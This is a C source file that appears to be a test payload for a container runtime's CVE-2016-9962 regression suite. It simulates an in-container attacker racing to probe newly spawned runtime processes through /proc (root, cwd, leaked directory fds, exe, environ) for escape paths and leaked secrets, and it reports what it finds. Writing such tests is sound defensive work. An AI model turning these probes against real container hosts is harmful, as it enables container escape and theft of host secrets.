/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Static payload for cve.bats (CVE-2016-9962 class): the attacker inside a
 * container, watching its pid namespace for processes of the runtime.
 *
 *   pid-watcher HOSTFILE EXE_INO
 *
 * It spins over the next pids the namespace will hand out and, for every
 * process that appears, tries at once what an attacker with CAP_SYS_PTRACE
 * would: open HOSTFILE (a file only the host has) through /proc/N/root,
 * create "pwned-N" through /proc/N/cwd (the test looks for it in the
 * runtime's host cwd), reach HOSTFILE through any directory fd in
 * /proc/N/fd (as a root, a directory, or a procfs's 1/root), find a
 * cgroupfs directory fd or a procfs whose sys/kernel/core_pattern opens
 * for writing (nothing is written), open /proc/N/exe (reported when its inode is
 * EXE_INO, the runtime's binary) and read /proc/N/environ (reported when it
 * holds MOAT_WATCH_SECRET, which only the runtime's environment has).
 * One line per finding on stdout: "ROOT N", "FD N M how", "EXE N",
 * "ENVIRON N"; "seen N" once per new process; "watching" at start.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>

#define PROC_MAGIC 0x9fa0
#define CGROUP_MAGIC 0x27e0eb
#define CGROUP2_MAGIC 0x63677270

static const char *hostfile;
static unsigned long exe_ino;

static void
try_root (int pid)
{
  char path[4200];
  int fd;

  snprintf (path, sizeof path, "/proc/%d/root%s", pid, hostfile);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      dprintf (1, "ROOT %d\n", pid);
      close (fd);
    }
  snprintf (path, sizeof path, "/proc/%d/cwd/pwned-%d", pid, pid);
  fd = open (path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd >= 0)
    close (fd);
}

/* Can `dir` (an fd of the runtime's) lead to HOSTFILE?  */
static const char *
dir_reaches_host (int dir)
{
  const char *base = strrchr (hostfile, '/') + 1;
  char rel[4200];
  struct statfs sfs;
  int fd;

  if (fstatfs (dir, &sfs) == 0 && (sfs.f_type == CGROUP2_MAGIC || sfs.f_type == CGROUP_MAGIC))
    return "cgroup";
  if ((fd = openat (dir, hostfile + 1, O_RDONLY | O_CLOEXEC)) >= 0)
    return close (fd), "root";
  if ((fd = openat (dir, base, O_RDONLY | O_CLOEXEC)) >= 0)
    return close (fd), "dir";
  if (sfs.f_type != PROC_MAGIC)
    return NULL;
  snprintf (rel, sizeof rel, "1/root%s", hostfile);
  if ((fd = openat (dir, rel, O_RDONLY | O_CLOEXEC)) >= 0)
    return close (fd), "proc";
  /* A writable procfs the container's own read-only /proc/sys hides:
     opened for writing, nothing written.  */
  if ((fd = openat (dir, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC)) >= 0)
    return close (fd), "proc-writable";
  return NULL;
}

static void
try_fds (int pid)
{
  char path[64];
  struct dirent *e;
  DIR *d;

  snprintf (path, sizeof path, "/proc/%d/fd", pid);
  d = opendir (path);
  if (d == NULL)
    return;
  while ((e = readdir (d)) != NULL)
    {
      char fdpath[384];
      const char *how;
      struct stat st;
      int fd;

      if (e->d_name[0] == '.')
        continue;
      snprintf (fdpath, sizeof fdpath, "%s/%s", path, e->d_name);
      fd = open (fdpath, O_PATH | O_CLOEXEC);
      if (fd < 0)
        continue;
      if (fstat (fd, &st) == 0 && S_ISDIR (st.st_mode) && (how = dir_reaches_host (fd)))
        dprintf (1, "FD %d %s %s\n", pid, e->d_name, how);
      close (fd);
    }
  closedir (d);
}

static void
try_exe_environ (int pid)
{
  char path[64], buf[65536];
  struct stat st;
  ssize_t n;
  int fd;

  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd >= 0)
    {
      if (fstat (fd, &st) == 0 && st.st_ino == exe_ino)
        dprintf (1, "EXE %d\n", pid);
      close (fd);
    }
  snprintf (path, sizeof path, "/proc/%d/environ", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return;
  n = read (fd, buf, sizeof buf - 1);
  close (fd);
  if (n <= 0)
    return;
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == '\0')
      buf[i] = '\n';
  buf[n] = '\0';
  if (strstr (buf, "MOAT_WATCH_SECRET"))
    dprintf (1, "ENVIRON %d\n", pid);
}

int
main (int argc, char **argv)
{
  int self = getpid (), base = self + 1, top = self;

  if (argc != 3 || argv[1][0] != '/')
    {
      fprintf (stderr, "usage: pid-watcher HOSTFILE EXE_INO\n");
      return 2;
    }
  hostfile = argv[1];
  exe_ino = strtoul (argv[2], NULL, 10);
  dprintf (1, "watching\n");
  for (;;)
    /* The namespace hands out pids in order: watch a few ahead.  */
    for (int pid = base; pid < base + 6; pid++)
      {
        char path[64];

        snprintf (path, sizeof path, "/proc/%d", pid);
        if (access (path, F_OK) < 0)
          continue;
        try_root (pid);
        try_fds (pid);
        try_exe_environ (pid);
        if (pid > top)
          {
            dprintf (1, "seen %d\n", pid);
            top = pid;
          }
        if (pid > base + 2)
          base = pid - 2;
      }
}
